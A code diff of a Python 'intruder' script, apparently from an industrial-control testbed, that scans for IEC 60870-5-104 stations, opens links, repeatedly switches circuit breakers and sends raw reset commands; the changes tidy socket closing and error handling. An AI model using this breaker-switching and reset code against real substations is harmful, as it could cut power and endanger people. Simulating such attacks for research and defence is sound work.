@@ -13,6 +13,7 @@ import c104
 import paho.mqtt.client as paho
 
 import plan
+from control import start, wait_until
 from mqtt import Peer
 
 T = plan.T
@@ -29,6 +30,7 @@ def scan() -> None:
             with socket.create_connection((ip, plan.IEC104_PORT), timeout=1) as link:
                 link.sendall(TESTFR_ACT)
                 link.recv(255)
+                hang_up(link)
         except ConnectionRefusedError:
             continue
 
@@ -39,12 +41,9 @@ def open_links() -> tuple[c104.Client, list[c104.Connection]]:
     client.originator_address = ORIGINATOR
     links = [plan.connect_muted(client, ip) for ip, _ in plan.STATIONS.values()]
     client.start()
-    for _ in range(100):
-        if all(link.is_connected for link in links):
-            break
-        time.sleep(0.05)
+    wait_until(lambda: all(link.is_connected for link in links), "the links")
     for link in links:
-        link.unmute()
+        start(link)
     return client, links
 
 
@@ -76,7 +75,8 @@ def switch_breakers(station: c104.Station) -> None:
         point = station.add_point(ioa, T.C_DC_NA_1, command_mode=plan.SBO)
         for state in (c104.Double.OFF, c104.Double.ON, c104.Double.OFF):
             point.value = state
-            point.transmit(c104.Cot.ACTIVATION)
+            if not point.transmit(c104.Cot.ACTIVATION):
+                sys.exit(f"intruder: {station.common_address}/{ioa} did not switch")
             time.sleep(0.1)
     point.command_mode = plan.DIRECT
     point.value = c104.Double.ON
@@ -91,9 +91,19 @@ def reset(ip: str, common_address: int) -> None:
         link.recv(255)
         link.sendall(struct.pack("<BBHH", 0x68, 4 + len(asdu), 0, 0) + asdu)
         link.recv(255)
+        hang_up(link)
+
+
+def hang_up(link: socket.socket) -> None:
+    """Closes in order: with answers unread the kernel would reset."""
+    link.shutdown(socket.SHUT_WR)
+    for _ in range(100):
+        if not link.recv(255):
+            break
 
 
 def attack_stations() -> None:
+    plan.go_first()
     scan()
     client, links = open_links()
     for link, common_addresses in zip(links, (range(1, 41), range(15, 36), range(25, 46)), strict=True):
